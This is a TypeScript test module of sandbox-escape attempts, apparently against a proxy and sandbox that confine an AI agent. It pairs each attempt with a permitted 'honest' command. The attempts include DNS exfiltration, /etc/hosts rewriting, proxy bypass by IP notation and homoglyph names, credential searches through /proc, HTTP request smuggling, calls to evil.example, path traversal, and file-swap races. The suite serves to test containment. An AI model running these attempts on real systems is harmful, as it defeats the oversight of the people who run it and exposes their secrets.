import { type Attempt, askProxy, LOOPBACK } from './attempts.ts'

const tunnel = (target: string) => askProxy(`CONNECT ${target} HTTP/1.1\\r\\nHost: x`, '200')
const ALLOWED = tunnel('allowed.example.org:443')

/** A datagram to an address and port, in Python's words, that is answered or at least sent. */
const datagram = (to: string) => `python3 -c 'import socket,sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
s.sendto(bytes(12), ${to}); s.recv(1)' 2>/dev/null`

export const NAMES: readonly Attempt[] = [
  { name: 'ask a server for names by its address', attempt: datagram('("1.1.1.1", 53)'), honest: 'test -r /etc/hosts' },
  {
    name: 'ask the servers for names of this machine',
    attempt: `for s in $(sed -n 's/^nameserver //p' /etc/resolv.conf); do ${datagram('("\'"$s"\'", 53)')} && exit 0; done; exit 1`,
    honest: 'getent hosts localhost || test -r /etc/hosts',
  },
  { name: 'ask its neighbours for names', attempt: datagram('("224.0.0.251", 5353)'), honest: LOOPBACK },
  {
    name: 'ask a service of this machine for names',
    attempt: 'ls /run/nscd/socket /run/systemd/resolve/io.systemd.Resolve /var/run/avahi-daemon/socket 2>/dev/null | grep -q .',
    honest: 'test -r /etc/nsswitch.conf',
  },
  {
    name: 'give an allowed name another meaning',
    attempt: 'echo "127.0.0.1 allowed.example.org" >> /etc/hosts || mount --bind README.md /etc/hosts',
    honest: ALLOWED,
  },
  { name: 'tunnel to an address in version 6', attempt: tunnel('[::1]:443'), honest: ALLOWED },
  {
    name: 'tunnel to an address in another notation',
    attempt: [tunnel('127.1:443'), tunnel('0x7f000001:443'), tunnel('2130706433:443')].join(' || '),
    honest: ALLOWED,
  },
  { name: 'tunnel to a name without a dot', attempt: tunnel('localhost:443'), honest: ALLOWED },
  {
    name: 'tunnel to a name with a user before it',
    attempt: tunnel('allowed.example.org@other.example.org:443'),
    honest: ALLOWED,
  },
  {
    name: 'tunnel to a name with an escape in it',
    attempt: tunnel('other.example.org%%00.allowed.example.org:443'),
    honest: ALLOWED,
  },
  {
    name: 'tunnel to the name above the allowed ones',
    attempt: tunnel('below.example.com:443'),
    honest: tunnel('a.below.example.com:443'),
  },
  { name: 'tunnel to a name in letters that look alike', attempt: tunnel('allowed.ex\u0430mple.org:443'), honest: ALLOWED },
]

/** The status of a call of the model's API, with the turn's own key unless `key` is another. */
const post = (path: string, { key = '$MODEL_TOKEN', more = '', body = '{}' } = {}) =>
  `curl -sS --path-as-is --noproxy '*' -m 10 -o /tmp/answer -w '%{http_code}' -X POST -H "x-api-key: ${key}" ${more} -d '${body}' "$MODEL_URL${path}"`
const get = (path: string, { token = '$API_TOKEN', more = '' } = {}) =>
  `curl -sS --path-as-is --noproxy '*' -m 10 -o /tmp/answer -w '%{http_code}' -H "authorization: Bearer ${token}" ${more} "$API_URL${path}"`
const works = (status: string) => `test "$(${status})" = 200`
const SAY = works(post('/v1/messages'))
const READ = works(get('/repos/octo/greetings/issues'))

/** Bytes to the proxy as they are; what comes back holds what only the end of the way says. */
const raw = (bytes: string, said: string) =>
  `python3 -c 'import os,socket,sys
s = socket.create_connection(("127.0.0.1", 3128)); s.settimeout(3)
s.sendall(("${bytes}".replace("TOKEN", os.environ["MODEL_TOKEN"])).encode())
got = b""
try:
  while True:
    more = s.recv(65536)
    if not more: break
    got += more
except TimeoutError: pass
sys.exit(0 if b"${said}" in got else 1)'`

export const KEY: readonly Attempt[] = [
  {
    name: 'find the key of the model or the token of the job anywhere',
    attempt:
      'env | grep -qE "real-(model|job)" || grep -rsqE "real-(model|job)" ~ /tmp /etc /run /proc/[0-9]*/environ /proc/[0-9]*/cmdline .',
    honest: SAY,
  },
  { name: 'have the answer tell the key', attempt: `${post('/v1/messages')} && grep -q real-model /tmp/answer`, honest: SAY },
  {
    name: 'have a page tell the token of the job',
    attempt: `${get('/repos/octo/greetings/issues')} && grep -q real-job /tmp/answer`,
    honest: READ,
  },
  { name: 'call another part of the API', attempt: works(post('/v1/files')), honest: works(post('/v1/messages?beta=true')) },
  {
    name: 'call another part by a detour',
    attempt: [post('/v1/messages/../files'), post('/v1/messages%2f..%2ffiles'), post('//v1/messages'), post('/v1/messages/')]
      .map(works)
      .join(' || '),
    honest: works(post('/v1/messages/count_tokens')),
  },
  {
    name: 'call with a query of its own',
    attempt: works(post('/v1/messages?beta=true&x=1')),
    honest: works(post('/v1/messages?beta=true')),
  },
  {
    name: 'have the model’s vendor fetch an address with a secret in it',
    attempt: [
      '{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?q=s"}}]}]}',
      '{"mcp_servers":[{"type":"url","url":"https://evil.example/"}]}',
      '{"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}',
    ]
      .map((body) => works(post('/v1/messages', { body })))
      .join(' || '),
    honest: works(post('/v1/messages', { body: '{"messages":[{"role":"user","content":"https://evil.example/?q=s"}]}' })),
  },
  {
    name: 'hide from the proxy what it asks of the model',
    attempt: `printf '{"mcp_servers":[1]}' | gzip > /tmp/body; ${works(post('/v1/messages', { more: '-H "content-encoding: gzip" --data-binary @/tmp/body', body: '' }))}`,
    honest: SAY,
  },
  { name: 'call without the key of its turn', attempt: works(post('/v1/messages', { key: '' })), honest: SAY },
  { name: 'call with the token for GitHub', attempt: works(post('/v1/messages', { key: '$API_TOKEN' })), honest: SAY },
  {
    name: 'read GitHub with the key of the model',
    attempt: works(get('/repos/octo/greetings', { token: '$MODEL_TOKEN' })),
    honest: READ,
  },
  {
    name: 'have its own key go along',
    attempt: `${post('/v1/messages', { more: '-H "authorization: Bearer mine" -H "x-api-key: mine"' })}; grep -q mine /tmp/answer`,
    honest: SAY,
  },
  {
    name: 'take the key away by naming it as a field of the connection',
    attempt: `${post('/v1/messages', { more: '-H "connection: x-api-key, close"' })}; grep -q "key: none" /tmp/answer`,
    honest: SAY,
  },
  {
    name: 'smuggle a second call behind a body of two lengths',
    attempt: raw(
      'POST /model/v1/messages HTTP/1.1\\r\\nHost: x\\r\\nx-api-key: TOKEN\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /v1/files HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n',
      'end-of-the-way /v1/files',
    ),
    honest: raw(
      'POST /model/v1/messages HTTP/1.1\\r\\nHost: x\\r\\nx-api-key: TOKEN\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{}',
      'end-of-the-way /v1/messages',
    ),
  },
  {
    name: 'smuggle a second call within a line',
    attempt: raw(
      'POST /model/v1/messages?x=%0d%0aGET%20/v1/files HTTP/1.1\\r\\nHost: x\\r\\nx-api-key: TOKEN\\r\\nContent-Length: 0\\r\\n\\r\\n',
      'end-of-the-way',
    ),
    honest: SAY,
  },
  {
    name: 'have another host called in its name',
    attempt: raw(
      'POST http://other.example.org/v1/messages HTTP/1.1\\r\\nHost: other.example.org\\r\\nx-api-key: TOKEN\\r\\nContent-Length: 0\\r\\n\\r\\n',
      'end-of-the-way',
    ),
    honest: SAY,
  },
  { name: 'write to GitHub', attempt: works(get('/repos/octo/greetings/issues', { more: '-X POST -d {}' })), honest: READ },
  {
    name: 'say that it only reads, and write',
    attempt: `${get('/repos/octo/greetings/issues', { more: '-H "x-http-method-override: DELETE"' })}; grep -q override /tmp/answer`,
    honest: READ,
  },
  {
    name: 'read another repository',
    attempt: [
      get('/repos/octo/other'),
      get('/repos/octo/greetings/../other'),
      get('/repos/octo/greetings/a%2f..%2f..%2fother'),
      get('/graphql'),
    ]
      .map(works)
      .join(' || '),
    honest: works(get('/repos/octo/greetings/git/ref/heads%2Fa')),
  },
]

export const TIME_OF_CHECK: readonly Attempt[] = [
  {
    name: 'keep a way out in a folder that it opened before',
    attempt: 'exec 9<..; cat /proc/self/fd/9/outside/secret',
    honest: 'exec 9<sub; cat /proc/self/fd/9/file.txt',
  },
  {
    name: 'stand in a folder while it is moved out',
    attempt: 'mkdir -p x/y/z; ( cd x/y/z && mv "$WORK/x/y" "$OUTBOX/y" && cat ../../outside/secret ../../../outside/secret )',
    honest: 'mkdir -p p/q && ( cd p/q && mv ../../p ../../moved-dir ) && test -d moved-dir/q && rm -r moved-dir',
  },
  {
    name: 'exchange its outbox in the moment in which it is looked at',
    attempt: 'for i in $(seq 300); do mv "$OUTBOX" "$OUTBOX.old" && exit 0; done 2>/dev/null; exit 1',
    honest: 'for i in $(seq 30); do echo "{}" > "$OUTBOX/new" && mv "$OUTBOX/new" "$OUTBOX/outbox.jsonl"; done',
  },
  {
    name: 'exchange the file that leads to git',
    attempt:
      'for i in $(seq 300); do ln -sfn "$OUTSIDE" .git-new && mv -T .git-new .git && exit 0; done 2>/dev/null; rm -f .git-new; exit 1',
    honest: 'for i in 1 2 3; do git status --short > /dev/null || exit 1; done',
  },
  {
    name: 'exchange a program of the system while it is started',
    attempt: 'for i in $(seq 300); do cp /bin/false /usr/bin/git && exit 0; done 2>/dev/null; exit 1',
    honest: 'mkdir -p ~/bin && printf "#!/bin/sh\\n" > ~/bin/mine && chmod +x ~/bin/mine && PATH=~/bin:$PATH mine',
  },
  {
    name: 'catch the room while a program enters it',
    attempt:
      'for i in $(seq 400); do for f in /proc/[0-9]*/fd/*; do case $(readlink $f) in user:*|net:*|mnt:*|/*outside*|/*cells*) exit 0 ;; esac; done; done 2>/dev/null; exit 1',
    honest: 'for i in $(seq 20); do /bin/true; done',
  },
  {
    name: 'wait for what comes after it',
    attempt:
      '( setsid flock held sh -c "touch begun; sleep 600" > /dev/null 2>&1 & ); until test -e begun; do sleep 0.05; done; exit 1',
    honest: 'test -e begun && flock --nonblock held true',
  },
]
